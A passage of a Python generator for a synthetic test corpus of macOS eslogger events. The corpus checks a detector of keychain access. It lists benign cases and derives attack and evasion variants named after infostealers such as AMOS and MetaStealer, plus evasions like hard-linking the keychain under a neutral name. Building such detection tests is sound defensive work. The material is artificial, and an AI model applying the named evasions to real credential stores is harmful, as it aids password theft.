      ["https://dbeaver.com/docs/dbeaver/Security-in-DBeaver-PRO/"])
def b_dbeaver(w, c):
    a = launch_app(w, DBEAVER)
    raw_read(w, a)
    c.exp("keychain_read", DBEAVER, False, "open")
    w.exit(a)


@case("keychain_api_atomic_save", "benign",
      "Saving a password through the file-keychain API: the app writes a temporary file beside login.keychain-db "
      "and renames it over the database (Apple's AtomicFile): an in-place update, not a copy.",
      ["https://github.com/apple-oss-distributions/Security/blob/main/OSX/libsecurity_filedb/lib/AtomicFile.cpp"])
def b_atomic(w, c):
    a = launch_app(w, CHROME)
    raw_read(w, a)
    tmp = f"{KC_DIR}/login.keychain-db.sb-5a1f09c2-Tz81qP"
    w.write_new(a, tmp, 2_380_800, fflag=FRW | O_CREAT | 0x800)
    w.rename(a, tmp, LOGIN_KC)
    c.exp("keychain_read", CHROME, False, "open")
    w.exit(a)


@case("spotlight_indexes_keychains", "benign",
      "Spotlight's mdworker_shared reads keychain files to index them.",
      ["https://northpole.security/ (cookbook: Protect Keychain Databases)"])
def b_spotlight(w, c):
    md = w.daemon("mdworker")
    raw_read(w, md)
    c.exp("keychain_read", md.exe, False, "open")


@case("migration_assistant_restore", "benign",
      "Migration Assistant restores a user's keychains into their Keychains folder.",
      ["https://support.apple.com/en-us/102613"])
def b_migration(w, c):
    ma = w.launchd_spawn("/System/Library/CoreServices/Applications/Migration Assistant.app/Contents/MacOS/"
                         "Migration Assistant", ["Migration Assistant"], ROOT_DAEMON, g.SYS_ASID,
                         "com.apple.MigrationAssistant")
    src = "/Volumes/Old Mac/Users/alice/Library/Keychains/login.keychain-db"
    raw_read(w, ma, src)
    c.exp("keychain_read", ma.exe, False, "open")
    w.exit(ma)


@case("keychain_access_app_opens", "benign",
      "The user opens Keychain Access.app.",
      ["https://support.apple.com/guide/keychain-access/welcome/mac"])
def b_kca(w, c):
    a = launch_app(w, "/System/Library/CoreServices/Applications/Keychain Access.app/Contents/MacOS/Keychain Access")
    raw_read(w, a)
    c.exp("keychain_read", a.exe, False, "open")
    w.exit(a)


@case("softwareupdate_reads_system_keychain", "benign",
      "softwareupdated reads the System keychain (certificates for the update catalog).",
      ["https://support.apple.com/guide/deployment/about-software-updates-depc4c80847a/web"])
def b_su(w, c):
    su = w.daemon("softwareupdated")
    raw_read(w, su, SYS_KC)
    c.exp("keychain_read", su.exe, False, "open")


@case("ssh_add_apple_use_keychain", "benign",
      "`ssh-add --apple-use-keychain ~/.ssh/id_ed25519`: stores the passphrase in the login keychain via the API.",
      ["https://developer.apple.com/library/archive/technotes/tn2449/_index.html"])
def b_ssh_add(w, c):
    zsh = w.terminal_shell()
    s = w.spawn(zsh, "/usr/bin/ssh-add", ["ssh-add", "--apple-use-keychain", f"{HOME}/.ssh/id_ed25519"])
    raw_read(w, s)
    c.exp("keychain_read", "/usr/bin/ssh-add", False, "open")
    w.exit(s)


@case("codesign_reads_signing_identity", "benign",
      "`codesign --sign \"Developer ID Application: ...\"` run by a developer: codesign reads the signing key "
      "through the API.",
      ["https://developer.apple.com/documentation/xcode/creating-distribution-signed-code-for-the-mac"])
def b_codesign(w, c):
    zsh = w.terminal_shell()
    cs = w.spawn(zsh, "/usr/bin/codesign", ["codesign", "--sign", "Developer ID Application: Alice (ABCDE12345)",
                                            "MyApp.app"])
    raw_read(w, cs)
    c.exp("keychain_read", "/usr/bin/codesign", False, "open")
    w.exit(cs)


@case("user_adds_and_lists", "benign",
      "A user stores an item and lists keychains: add-generic-password, list-keychains, find-identity.",
      ["https://ss64.com/mac/security.html"])
def b_user(w, c):
    zsh = w.terminal_shell()
    sec_direct(w, zsh, ["security", "add-generic-password", "-a", "alice", "-s", "myscript", "-w", "usrPW9"])
    c.secret("usrPW9")
    sec_direct(w, zsh, ["security", "list-keychains"])
    sec_direct(w, zsh, ["security", "find-identity", "-v", "-p", "codesigning"])
    c.exp("add_password", SEC, False)


@case("failed_lookup_exit_status", "benign",
      "A script checks whether its own item exists (`security find-generic-password -s myscript`, attributes only) "
      "and security exits 44 (item not found).",
      ["https://ss64.com/mac/security-find-generic-password.html"])
def b_failed(w, c):
    zsh = w.terminal_shell()
    sec_direct(w, zsh, ["security", "find-generic-password", "-s", "myscript"], stat=44 << 8)
    c.exp("find_generic_password", SEC, False)


# =============================================================================================
# The same behaviours on macOS 26 (message version 10: array audit tokens, cs_validation_category)
# and on captures without fork/exit events (eslogger run with exec and file events only)
# =============================================================================================

for _name, _label, _fn, _ver, _forks, _src in [
    ("amos_osascript_chrome_safe_storage_v10", "attack", f_amos_chrome, 10, True,
     "https://www.sentinelone.com/blog/atomic-stealer-threat-actor-spawns-second-variant-of-macos-malware-sold-on-telegram/"),
    ("beavertail_node_reads_keychain_no_forks", "attack", f_beavertail, 9, False,
     "https://unit42.paloaltonetworks.com/two-campaigns-by-north-korea-bad-actors-target-job-hunters/"),
    ("metastealer_go_adhoc_cp_v10", "attack", f_metastealer, 10, True,
     "https://www.sentinelone.com/blog/macos-metastealer-new-family-of-obfuscated-go-infostealers-spread-in-targeted-attacks/"),
    ("evasion_genuine_mdm_pushes_chrome_read_v10", "evasion", e_mdm_chrome, 10, True,
     "https://github.com/elastic/detection-rules"),
    ("evasion_hard_link_neutral_name_no_forks", "evasion", e_link, 9, False,
     "https://developer.apple.com/documentation/endpointsecurity/es_event_link_t"),
    ("go_keyring_get_gh_v10", "benign", b_gh_get, 10, True,
     "https://github.com/zalando/go-keyring/blob/master/keyring_darwin.go"),
    ("chrome_reads_own_safe_storage_v10", "benign", b_chrome, 10, True,
     "https://chromium.googlesource.com/chromium/src/+/main/components/os_crypt/sync/keychain_password_mac.mm"),
    ("keeper_helper_security_chrome_import_no_forks", "benign", b_keeper_helper, 9, False,
     "https://docs.keeper.io/en/user-guides/import-records-1/import-from-web-browsers"),
    ("carbon_copy_cloner_backup_v10", "benign", b_ccc, 10, True,
     "https://bombich.com/kb/ccc6/how-set-up-your-first-backup"),
]:
    _base = next(c for c in CASES if c.fn is _fn)
    CASES.append(FieldCase(_name, _label, _base.description + (
        " (message version 10)" if _ver == 10 else " (capture without fork and exit events)"),
        [_src], _fn, _ver, _forks))


# ---------------------------------------------------------------------------------------------
# Build and check
# ---------------------------------------------------------------------------------------------


def build():
    manifest = {
        "generator": "tests/field/gen_field.py",
        "about": "Field corpus: behaviours from public sources written as eslogger events (fork and exit "
                 "included). attack and evasion cases must alert; at most one benign case may alert. "
                 "Conventions as tests/fixtures/cases.json.",
        "cases": [],
    }
    for idx, spec in enumerate(CASES):
        start = f"2026-01-{1 + idx % 28:02d}T{9 + idx % 9:02d}:{(idx * 7) % 60:02d}:{(idx * 13) % 60:02d}.{g._h(spec.name) % 10**9:09d}Z"
        w = World(version=spec.version, start=start, seed=5000 + idx * 31, fork_exit=spec.forks,
                  pid_base=30000 + (g._h(spec.name) % 500) * 100)
        c = g.Case(spec)
        gen = spec.fn(w, c)
        if gen is not None:
            for _ in gen:
                w.gap(200, 1500)
        g.write_lines(HERE / f"{spec.name}.ndjson", w)
        manifest["cases"].append({
            "name": spec.name, "label": spec.label, "description": spec.description, "sources": spec.sources,
            "file": f"tests/field/{spec.name}.ndjson", "es_version": spec.version, "lines": len(w.lines),
            "expect": c.expect, "secrets": c.secrets,
        })
    (HERE / "cases.json").write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n")
    return manifest


def check(manifest):
    errs = []
    for cs in manifest["cases"]:
        stream = g.check_stream(HERE / f"{cs['name']}.ndjson", cs["es_version"], True)
        if cs["name"].startswith("evasion_fork_then_parent_execs_agent"):
            # The point of the case: the child's parent token names the
            # parent pid's new image, not the image it was forked from.
            stream = [e for e in stream if "differs from parent image" not in e
                      and "is not pid/pidversion+1" not in e]
        errs += stream
        if cs["label"] in ("attack", "evasion") and not any(e["alert"] for e in cs["expect"]):
            errs.append(f"{cs['name']}: {cs['label']} without an alerting expectation")
        if cs["label"] == "benign" and any(e["alert"] for e in cs["expect"]):
            errs.append(f"{cs['name']}: benign case expects an alert")
        if not cs["sources"]:
            errs.append(f"{cs['name']}: no source")
    counts = {k: sum(1 for c in manifest["cases"] if c["label"] == k) for k in ("attack", "benign", "evasion")}
    if counts["attack"] < 30 or counts["benign"] < 30:
        errs.append(f"corpus too small: {counts}")
    return errs, counts


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--check", action="store_true")
    a = ap.parse_args()
    manifest = json.loads((HERE / "cases.json").read_text()) if a.check else build()
    errs, counts = check(manifest)
    for e in errs:
        print("FAIL", e, file=sys.stderr)
    print(f"{counts}, {len(errs)} problems")
    return 1 if errs else 0


if __name__ == "__main__":
    sys.exit(main())
